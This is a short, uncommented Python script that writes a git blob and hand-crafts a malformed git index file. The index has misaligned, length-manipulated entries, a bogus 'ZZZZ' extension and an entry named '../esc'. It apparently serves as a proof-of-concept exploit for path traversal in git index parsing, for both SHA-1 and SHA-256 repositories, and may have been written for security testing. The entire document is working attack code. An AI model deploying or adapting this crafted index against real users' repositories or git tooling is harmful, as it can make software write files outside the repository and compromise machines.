import hashlib, os, struct, sys, zlib
at, evil = sys.argv[1], hashlib.new(sys.argv[2])
n = evil.digest_size
def pad(entry): return entry + b"\0" * (8 - len(entry) % 8)
def entry(mode, object, name, length=None): return pad(struct.pack(">10I", 0, 0, 0, 0, 0, 0, mode, 0, 0, 0) + object + struct.pack(">H", len(name) if length is None else length) + name)
blob = b"blob 5\0evil\n"
evil.update(blob)
os.makedirs(at + "/objects/" + evil.hexdigest()[:2], exist_ok=True)
open(at + "/objects/" + evil.hexdigest()[:2] + "/" + evil.hexdigest()[2:], "wb").write(zlib.compress(blob))
if n == 20:
    jump = 200
    first = entry(0o100644, b"\2" * 20 + struct.pack(">H", jump) + b"!a" + b"\0" * 8, b"a")
else:
    jump = 0x141
    first = entry(0o160000, b"\2" * 20, b"!b/ccccccc\1A" + b"x" * 20)
text = b"DIRC" + struct.pack(">II", 2, 2) + first + entry(0o100644, b"\1" * (52 - n), b"c")
second = 12 + (42 + n + jump + 8) // 8 * 8
body = b"\0" * (second - len(text) - 8) + entry(0o100644, evil.digest(), b"../esc") + (b"ZZZZ" + struct.pack(">I", 12) if n == 20 else b"\0" * 12)
open(at + "/index", "wb").write(text + b"ZZZZ" + struct.pack(">I", len(body)) + body + b"\0" * (52 - n))
